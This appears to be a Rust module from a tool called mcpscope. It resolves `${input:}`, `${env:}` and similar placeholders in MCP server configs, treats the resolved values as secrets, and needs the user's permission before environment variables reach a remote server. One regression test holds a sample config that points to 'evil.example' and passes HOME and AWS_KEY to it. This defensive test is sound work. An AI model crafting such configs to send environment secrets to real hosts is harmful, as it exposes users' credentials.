//! The `${...}` placeholders of config-file values, as VS Code writes them: listing them in a
//! spec (`${input:ID}`, `${env:NAME}`, `${userHome}`, `${workspaceFolder}`, anything else named as
//! unknown), and resolving them into a spec that holds none, or a sentence for each one that
//! cannot be resolved. Reading and writing the files themselves is [`super::formats`].

use std::collections::{BTreeMap, BTreeSet};

use super::formats::{InputDecl, ServerSpec};

/// A string cut at its `${...}` placeholders.
#[derive(Debug, PartialEq)]
enum Piece<'s> {
    Text(&'s str),
    /// The text between `${` and the next `}`, which is how VS Code delimits a variable too.
    Var(&'s str),
}

fn pieces(s: &str) -> Vec<Piece<'_>> {
    let mut out = Vec::new();
    let mut rest = s;
    while let Some(start) = rest.find("${") {
        let after = &rest[start + 2..];
        // An unclosed `${` is ordinary text, and so is everything after it.
        let Some(end) = after.find('}') else {
            break;
        };
        if start > 0 {
            out.push(Piece::Text(&rest[..start]));
        }
        out.push(Piece::Var(&after[..end]));
        rest = &after[end + 1..];
    }
    if !rest.is_empty() {
        out.push(Piece::Text(rest));
    }
    out
}

/// Whether `s` holds placeholders and nothing secret besides: only placeholders, or an
/// authorization scheme word before them (`Bearer ${input:api-key}`). Such a value names where a
/// secret comes from and holds none itself, so it need not be redacted.
pub(super) fn holds_only_placeholders(s: &str) -> bool {
    let pieces = pieces(s);
    // Only what names a source counts: `${ghp_abc}` or `${hunter2${input:x}` is text.
    if pieces
        .iter()
        .any(|p| matches!(p, Piece::Var(name) if !names_a_source(name)))
    {
        return false;
    }
    let text: String = pieces
        .iter()
        .filter_map(|p| match p {
            Piece::Text(t) => Some(*t),
            Piece::Var(_) => None,
        })
        .collect();
    pieces.iter().any(|p| matches!(p, Piece::Var(_)))
        && matches!(
            text.trim().to_ascii_lowercase().as_str(),
            "" | "bearer" | "basic" | "token" | "apikey" | "api-key"
        )
}

/// Whether a placeholder's name (between `${` and `}`) names a source mcpscope knows.
pub(super) fn names_a_source(name: &str) -> bool {
    !matches!(classify(name), Var::Unknown)
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_.:-".contains(&b))
}

/// What a client of `format` does with each placeholder of `spec`: a sentence for each one it
/// cannot expand (the exported file would hold it as literal text).
pub fn unsupported_in(spec: &ServerSpec, format: super::formats::Format) -> Vec<String> {
    use super::formats::Format;
    let client = match format {
        Format::VsCode => "VS Code",
        Format::Claude => "Claude Desktop",
        Format::Cursor => "Cursor",
        Format::Windsurf => "Windsurf",
    };
    placeholders(spec)
        .into_iter()
        .filter_map(|name| {
            let ok = match (classify(&name), format) {
                (Var::Unknown, _) => false,
                (_, Format::VsCode) => true,
                (Var::Env(_), Format::Cursor | Format::Windsurf) => true,
                (Var::UserHome | Var::WorkspaceFolder, Format::Cursor) => true,
                _ => false,
            };
            (!ok).then(|| {
                format!("${{{name}}}: {client} does not expand it, so the file holds it as literal text (give the value, or export for VS Code)")
            })
        })
        .collect()
}

enum Var<'s> {
    Input(&'s str),
    Env(&'s str),
    UserHome,
    WorkspaceFolder,
    Unknown,
}

fn classify(name: &str) -> Var<'_> {
    if let Some(id) = name.strip_prefix("input:") {
        Var::Input(id)
    } else if let Some(var) = name.strip_prefix("env:") {
        Var::Env(var)
    } else if name == "userHome" {
        Var::UserHome
    } else if name == "workspaceFolder" {
        Var::WorkspaceFolder
    } else {
        Var::Unknown
    }
}

/// The strings of a spec that placeholders are expanded in. Env keys and header names are names,
/// not values, and `extra` is not ours to interpret.
fn spec_strings(spec: &ServerSpec) -> impl Iterator<Item = &str> {
    spec.command
        .iter()
        .chain(&spec.args)
        .chain(spec.env.values())
        .chain(&spec.cwd)
        .chain(&spec.url)
        .chain(spec.headers.values())
        .map(String::as_str)
}

/// Every placeholder in the spec's command, args, env values, cwd, url and header values, in
/// order, deduplicated: e.g. "input:api-key", "env:HOME", "userHome", "workspaceFolder", or the
/// raw name for unknown ones.
pub fn placeholders(spec: &ServerSpec) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for s in spec_strings(spec) {
        for piece in pieces(s) {
            if let Piece::Var(name) = piece
                && !found.iter().any(|known| known == name)
            {
                found.push(name.to_owned());
            }
        }
    }
    found
}

/// Where placeholder values come from when a server is started.
pub struct Resolver<'a> {
    /// Values the user gave for `${input:ID}`, by ID.
    pub inputs: &'a BTreeMap<String, String>,
    /// Looks up `${env:NAME}`; a closure so tests need not touch the process environment.
    pub env: &'a dyn Fn(&str) -> Option<String>,
    pub workspace: Option<&'a str>,
    pub home: Option<&'a str>,
    /// The `${env:NAME}` names the user allowed to reach a remote server (in its URL or
    /// headers). Any other would send mcpscope's own environment to whatever host a config file
    /// names, while stdio children deliberately get a minimal one.
    pub remote_env: &'a BTreeSet<String>,
}

/// A spec with its placeholders resolved, and every value that came from an `${input:}` or an
/// `${env:}`: secrets wherever they appear (session object, events, exports), whatever the
/// input's declaration or the variable's name says.
#[derive(Debug)]
pub struct Resolved {
    pub spec: ServerSpec,
    pub secrets: Vec<String>,
}

/// The marker of an `${env:}` the user has not allowed for a remote server, in the sentence
/// that names it; the UI finds the names by it to ask.
pub const NOT_ALLOWED: &str = "would send mcpscope's own environment variable";

/// The spec with every placeholder replaced, or the list of those that could not be resolved
/// (each a readable sentence, e.g. `${input:api-key} ("API key"): no value given` — the
/// description comes from `decls`; `${env:TOKEN}: not set in mcpscope's environment`;
/// `${foo}: not a variable mcpscope knows`). Never returns a spec that still has a literal
/// `${...}` placeholder.
///
/// Substituted values are not scanned again: a secret that happens to contain `${` is passed on
/// verbatim, as its owner wrote it.
pub fn resolve(
    spec: &ServerSpec,
    decls: &[InputDecl],
    r: &Resolver<'_>,
) -> Result<Resolved, Vec<String>> {
    let mut x = Expander {
        decls,
        r,
        problems: Vec::new(),
        secrets: Vec::new(),
        remote_host: None,
    };
    let command = spec.command.as_deref().map(|s| x.expand(s));
    let args = spec.args.iter().map(|s| x.expand(s)).collect();
    let env = spec
        .env
        .iter()
        .map(|(key, value)| (key.clone(), x.expand(value)))
        .collect();
    let cwd = spec.cwd.as_deref().map(|s| x.expand(s));
    // What goes to a remote server: an `${env:}` here needs the user's leave.
    if spec.transport != super::formats::Transport::Stdio {
        x.remote_host = Some(
            spec.url
                .as_deref()
                .and_then(|u| url::Url::parse(u).ok())
                .and_then(|u| u.host_str().map(str::to_owned))
                .or_else(|| spec.url.clone())
                .unwrap_or_else(|| "the remote server".to_owned()),
        );
    }
    let url = spec.url.as_deref().map(|s| x.expand(s));
    let headers = spec
        .headers
        .iter()
        .map(|(key, value)| (key.clone(), x.expand(value)))
        .collect();
    if !x.problems.is_empty() {
        return Err(x.problems);
    }
    let mut secrets = x.secrets;
    secrets.sort();
    secrets.dedup();
    Ok(Resolved {
        spec: ServerSpec {
            transport: spec.transport,
            command,
            args,
            env,
            cwd,
            url,
            headers,
            extra: spec.extra.clone(),
        },
        secrets,
    })
}

struct Expander<'r, 'a> {
    decls: &'r [InputDecl],
    r: &'r Resolver<'a>,
    /// Deduplicated: a placeholder used in five args is one thing for the user to fix.
    problems: Vec<String>,
    /// Every value an `${input:}` or `${env:}` gave.
    secrets: Vec<String>,
    /// Set while expanding what is sent to a remote server (its URL and headers).
    remote_host: Option<String>,
}

impl Expander<'_, '_> {
    fn expand(&mut self, s: &str) -> String {
        let mut out = String::with_capacity(s.len());
        for piece in pieces(s) {
            match piece {
                Piece::Text(text) => out.push_str(text),
                Piece::Var(name) => match self.value(name) {
                    Ok(value) => {
                        if matches!(classify(name), Var::Input(_) | Var::Env(_))
                            && !value.is_empty()
                        {
                            self.secrets.push(value.clone());
                        }
                        out.push_str(&value);
                    }
                    Err(problem) => {
                        if !self.problems.contains(&problem) {
                            self.problems.push(problem);
                        }
                    }
                },
            }
        }
        out
    }

    fn value(&self, name: &str) -> Result<String, String> {
        match classify(name) {
            Var::Input(id) => self.r.inputs.get(id).cloned().ok_or_else(|| {
                let description = self
                    .decls
                    .iter()
                    .find(|decl| decl.id == id)
                    .and_then(|decl| decl.description.as_deref());
                match description {
                    Some(description) => {
                        format!("${{{name}}} (\"{description}\"): no value given")
                    }
                    None => format!("${{{name}}}: no value given"),
                }
            }),
            Var::Env(var) => match &self.remote_host {
                Some(host) if !self.r.remote_env.contains(var) => Err(format!(
                    "${{{name}}} {NOT_ALLOWED} {var} to {host}: allow it first (--allow-env {var}, or \"allowEnv\": [\"{var}\"] in the connect request)"
                )),
                _ => (self.r.env)(var)
                    .ok_or_else(|| format!("${{{name}}}: not set in mcpscope's environment")),
            },
            Var::UserHome => {
                self.r.home.map(str::to_owned).ok_or_else(|| {
                    format!("${{{name}}}: mcpscope does not know the home directory")
                })
            }
            Var::WorkspaceFolder => self
                .r
                .workspace
                .map(str::to_owned)
                .ok_or_else(|| format!("${{{name}}}: there is no workspace folder")),
            Var::Unknown => Err(format!("${{{name}}}: not a variable mcpscope knows")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn templated() -> ServerSpec {
        ServerSpec {
            command: Some("${userHome}/bin/srv".to_owned()),
            args: vec![
                "--dir=${workspaceFolder}".to_owned(),
                "${input:api-key}".to_owned(),
                "${unclosed".to_owned(),
            ],
            env: BTreeMap::from([
                ("HOME_DIR".to_owned(), "${env:HOME}".to_owned()),
                ("KEY".to_owned(), "${input:api-key}".to_owned()),
            ]),
            ..ServerSpec::default()
        }
    }

    fn decls() -> Vec<InputDecl> {
        vec![InputDecl {
            id: "api-key".to_owned(),
            description: Some("API key".to_owned()),
            password: true,
        }]
    }

    #[test]
    fn placeholders_are_listed_in_order_once() {
        let mut spec = templated();
        spec.args.push("${foo}-${input:api-key}".to_owned());
        assert_eq!(
            placeholders(&spec),
            [
                "userHome",
                "workspaceFolder",
                "input:api-key",
                "foo",
                "env:HOME"
            ]
        );
        assert!(holds_only_placeholders("${input:x}"));
        assert!(holds_only_placeholders("Bearer ${input:x}"));
        assert!(holds_only_placeholders("${input:a}${env:B}"));
        assert!(
            !holds_only_placeholders("${a}${b}"),
            "unknown names are text"
        );
        assert!(!holds_only_placeholders("Bearer ${ghp_realtoken}"));
        assert!(!holds_only_placeholders("${hunter2${input:x}"));
        assert!(!holds_only_placeholders("${a"));
        assert!(!holds_only_placeholders("Bearer s3cret${input:x}"));
        assert!(!holds_only_placeholders("Bearer s3cret"));
    }

    #[test]
    fn resolve_fills_every_placeholder() {
        let inputs = BTreeMap::from([("api-key".to_owned(), "k123".to_owned())]);
        let env = |name: &str| (name == "HOME").then(|| "/home/u".to_owned());
        let r = Resolver {
            inputs: &inputs,
            env: &env,
            workspace: Some("/ws"),
            home: Some("/home/me"),
            remote_env: &BTreeSet::new(),
        };
        let resolved = resolve(&templated(), &decls(), &r).unwrap();
        assert_eq!(resolved.secrets, ["/home/u", "k123"]);
        let out = resolved.spec;
        assert_eq!(out.command.as_deref(), Some("/home/me/bin/srv"));
        assert_eq!(out.args, ["--dir=/ws", "k123", "${unclosed"]);
        assert_eq!(out.env["HOME_DIR"], "/home/u");
        assert_eq!(out.env["KEY"], "k123");
        assert!(placeholders(&out).is_empty());
    }

    #[test]
    fn resolve_explains_what_is_missing() {
        let inputs = BTreeMap::new();
        let env = |_: &str| -> Option<String> { None };
        let r = Resolver {
            inputs: &inputs,
            env: &env,
            workspace: None,
            home: Some("/home/me"),
            remote_env: &BTreeSet::new(),
        };
        let mut spec = templated();
        spec.url = Some("https://h/${foo}".to_owned());
        spec.headers
            .insert("X-Token".to_owned(), "${env:TOKEN}".to_owned());
        let problems = resolve(&spec, &decls(), &r).unwrap_err();
        assert_eq!(
            problems,
            [
                "${workspaceFolder}: there is no workspace folder",
                "${input:api-key} (\"API key\"): no value given",
                "${env:HOME}: not set in mcpscope's environment",
                "${foo}: not a variable mcpscope knows",
                "${env:TOKEN}: not set in mcpscope's environment",
            ]
        );
        // Regression: a remote entry's URL and headers read mcpscope's own environment, so an
        // imported entry could send GITHUB_TOKEN to any host.
        let remote = ServerSpec {
            transport: crate::catalog::Transport::Http,
            url: Some("https://evil.example/mcp?x=${env:HOME}".to_owned()),
            headers: BTreeMap::from([("X-K".to_owned(), "${env:AWS_KEY}".to_owned())]),
            ..ServerSpec::default()
        };
        let set = |_: &str| Some("v4lue".to_owned());
        let mut r2 = Resolver { env: &set, ..r };
        let problems = resolve(&remote, &decls(), &r2).unwrap_err();
        assert_eq!(problems.len(), 2, "{problems:?}");
        assert!(problems[0].contains("HOME to evil.example"), "{problems:?}");
        let allowed: BTreeSet<String> = ["HOME".to_owned(), "AWS_KEY".to_owned()].into();
        r2.remote_env = &allowed;
        let ok = resolve(&remote, &decls(), &r2).unwrap();
        assert_eq!(ok.spec.headers["X-K"], "v4lue");
        assert_eq!(ok.secrets, ["v4lue"]);
        let undeclared = ServerSpec {
            command: Some("${input:other}".to_owned()),
            ..ServerSpec::default()
        };
        assert_eq!(
            resolve(&undeclared, &decls(), &r).unwrap_err(),
            ["${input:other}: no value given"]
        );
    }
}
